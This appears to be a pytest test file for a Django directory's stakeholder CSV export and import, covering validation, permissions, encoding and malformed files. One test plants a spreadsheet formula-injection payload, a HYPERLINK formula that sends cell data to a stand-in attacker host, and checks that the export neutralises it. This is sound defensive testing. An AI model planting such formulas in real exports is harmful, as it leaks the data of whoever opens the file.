import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import User
from hub.directory.csv import COLUMNS
from hub.models import Stakeholder


@pytest.fixture
def editor(db):
    return User.objects.create_superuser(email="editor@leg.tj", password="x" * 12)


def rows_of(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def upload(client, rows, header=COLUMNS):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header)
    writer.writeheader()
    writer.writerows(rows)
    file = SimpleUploadedFile("stakeholders.csv", out.getvalue().encode("utf-8"), content_type="text/csv")
    return client.post(reverse("hub_stakeholders_import"), {"file": file})


def test_export_then_import_round_trip(client, demo, editor):
    client.force_login(editor)
    exported = rows_of(client.get(reverse("hub_stakeholders_export")))
    assert len(exported) == Stakeholder.objects.filter(locale__language_code="en").count() == 12
    unicef = next(row for row in exported if row["code"] == "unicef")
    assert unicef["email"] == "info@unicef.org" and "digital-learning" in unicef["areas_of_work"].split(";")
    assert "focal" not in ",".join(exported[0])  # personal data never exported

    unicef["email"] = "tajikistan@unicef.org"
    new = dict.fromkeys(COLUMNS, "")
    new.update(code="aga-khan-foundation", name="Aga Khan Foundation", category="ngo", regions="gbao;khatlon")
    response = upload(client, [*exported, new])

    assert response.status_code == 302
    assert Stakeholder.objects.get(code="unicef", locale__language_code="en").email == "tajikistan@unicef.org"
    added = Stakeholder.objects.get(code="aga-khan-foundation")
    assert sorted(region.code for region in added.regions.all()) == ["gbao", "khatlon"]


def test_bad_rows_are_reported_by_line_and_nothing_changes(client, demo, editor):
    client.force_login(editor)
    before = list(Stakeholder.objects.order_by("pk").values_list("code", "email"))
    good = dict.fromkeys(COLUMNS, "")
    good.update(code="new-partner", name="New partner")
    bad_email = {**good, "code": "unicef", "name": "UNICEF", "email": "not-an-email"}
    bad_area = {**good, "code": "other", "areas_of_work": "curriculum;astrology", "category": "club"}
    duplicate = {**good}

    response = upload(client, [good, bad_email, bad_area, duplicate])

    assert response.status_code == 200
    text = response.content.decode()
    assert "Line 3: “not-an-email” is not a valid email." in text
    assert "Line 4: unknown areas_of_work: astrology." in text
    assert "Line 4: unknown category “club”" in text
    assert "Line 5: code “new-partner” is also on line 2." in text
    assert "Line 2" not in text
    assert list(Stakeholder.objects.order_by("pk").values_list("code", "email")) == before


def test_files_that_are_not_the_export_are_refused_clearly(client, demo, editor):
    client.force_login(editor)
    response = upload(client, [{"code": "x", "name": "X"}], header=["code", "name"])
    assert "missing: acronym, category" in response.content.decode()


def test_only_editors_may_export_or_import(client, demo):
    client.force_login(User.objects.create_user(email="member@example.org", password="x" * 12))
    assert client.get(reverse("hub_stakeholders_export")).status_code in (302, 403)
    assert client.get(reverse("hub_stakeholders_import")).status_code in (302, 403)


def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_import_back_unchanged(client, demo, editor):
    client.force_login(editor)
    unicef = Stakeholder.objects.get(code="unicef", locale__language_code="en")
    hostile = {
        "name": '=HYPERLINK("https://evil.example/?x="&A1,"UNICEF")',
        "acronym": "+1+1",
        "description": "@SUM(1,1) and -2+3",
        "website": "",
    }
    Stakeholder.objects.filter(pk=unicef.pk).update(**hostile)

    exported = rows_of(client.get(reverse("hub_stakeholders_export")))
    row = next(row for row in exported if row["code"] == "unicef")
    for column in ("name", "acronym", "description"):
        assert row[column] == "'" + hostile[column], column
    every_cell = [cell for exported_row in exported for cell in exported_row.values()]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    assert upload(client, exported).status_code == 302
    unicef.refresh_from_db()
    assert {column: getattr(unicef, column) for column in hostile} == hostile


def test_a_file_with_a_nul_byte_or_a_huge_cell_is_refused_with_its_line_and_changes_nothing(client, demo, editor):
    client.force_login(editor)
    before = list(Stakeholder.objects.order_by("pk").values_list("code", "name"))
    content = (",".join(COLUMNS) + "\nnew-partner,New\x00partner,,,,,,,\n").encode("utf-8")

    response = client.post(reverse("hub_stakeholders_import"), {"file": SimpleUploadedFile("s.csv", content)})

    assert response.status_code == 200
    assert "Line 2 holds a NUL byte" in response.content.decode()
    assert list(Stakeholder.objects.order_by("pk").values_list("code", "name")) == before

    huge = (",".join(COLUMNS) + '\nnew-partner,"' + "x" * 200_000 + '",,,,,,,\n').encode("utf-8")
    response = client.post(reverse("hub_stakeholders_import"), {"file": SimpleUploadedFile("s.csv", huge)})
    assert "Line 2 cannot be read as CSV" in response.content.decode()
    assert list(Stakeholder.objects.order_by("pk").values_list("code", "name")) == before


def test_a_csv_saved_by_excel_on_russian_windows_imports_with_its_cyrillic_intact(client, demo, editor):
    client.force_login(editor)
    content = (",".join(COLUMNS) + "\nnew-partner,Фонд образования,,ngo,,,,,\n").encode("cp1251")
    response = client.post(reverse("hub_stakeholders_import"), {"file": SimpleUploadedFile("s.csv", content)})
    assert response.status_code == 302
    assert Stakeholder.objects.get(code="new-partner").name == "Фонд образования"
